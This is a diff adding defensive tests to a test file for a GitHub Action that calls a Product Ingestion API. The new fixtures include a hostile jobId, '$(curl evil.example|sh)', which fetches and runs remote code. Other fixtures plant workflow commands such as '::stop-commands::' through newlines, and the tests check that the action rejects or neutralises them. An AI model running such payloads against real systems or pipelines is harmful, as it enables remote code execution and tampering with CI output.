@@ -189,6 +189,50 @@ describe('go live through the Product Ingestion API', () => {
   })
 })
 
+describe('hostile answers through the Product Ingestion API', () => {
+  it('a 202 whose job id is not a GUID is never followed nor re-sent; the go-live may have started', async () => {
+    pia.addProduct({ externalId: 'contoso-vm' })
+    pia.injectFault({
+      method: 'POST',
+      path: '/configure',
+      kind: 'status',
+      status: 202,
+      contentType: 'application/json',
+      body: '{"jobId":"$(curl evil.example|sh)"}'
+    })
+    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
+    expect(result.exitCode).toBe(1)
+    expect(posts()).toHaveLength(1)
+    expect(result.outputs).toEqual({})
+    expect(result.stdout).toContain(
+      '::error::The go-live request was accepted (HTTP 202), but the service named no job (no jobId that is a GUID)'
+    )
+    expect(result.stdout).toContain('The go-live may have started all the same')
+  })
+
+  it('job text cannot plant workflow commands', async () => {
+    pia.addProduct({ externalId: 'contoso-vm' })
+    pia.injectFault({
+      method: 'GET',
+      path: '/status',
+      kind: 'status',
+      status: 200,
+      contentType: 'application/json',
+      body: JSON.stringify({
+        jobStatus: 'running\n::stop-commands::x',
+        errors: [{ code: 'a\n::add-mask::b', message: 'm\r\n::error::planted' }]
+      })
+    })
+    const result = await runAction({ inputs: inputs({ wait: 'true' }), debug: true })
+    expect(result.exitCode).toBe(0)
+    const planted = result.stdout
+      .split('\n')
+      .filter((l) => /^\s*(::|##\[)/.test(l) && !/^::(error|warning|notice|debug)::/.test(l) && l !== `::add-mask::${DEFAULT_TOKEN}`)
+    expect(planted).toEqual([])
+    expect(result.stdout).toContain('Operation status: running ::stop-commands::x')
+  })
+})
+
 describe('dry run through the Product Ingestion API', () => {
   it.each([
     [{ state: 'ready' }, 'waitingForPublisherReview', '::notice::Offer status: waitingForPublisherReview. A newer preview'],
